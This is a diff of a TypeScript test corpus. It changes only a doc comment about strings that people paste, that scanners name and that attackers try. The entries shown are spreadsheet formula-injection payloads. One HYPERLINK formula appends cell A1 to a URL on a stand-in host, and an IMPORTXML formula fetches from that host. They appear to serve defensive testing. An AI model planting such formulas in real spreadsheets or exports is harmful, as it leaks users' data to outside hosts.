@@ -1,4 +1,4 @@
-/** What people paste, scanners name and attackers try, each with a call of `alarm()` where something could run it. */
+/** Texts that people paste, scanners use as names, and attackers try; each calls `alarm()` if it is executed. */
 export const corpus: readonly { readonly name: string; readonly text: string }[] = [
   { name: 'a formula', text: '=HYPERLINK("http://contoh.example/?"&A1,"klik")' },
   { name: 'a formula that fetches', text: '=IMPORTXML("http://contoh.example","//a")' },
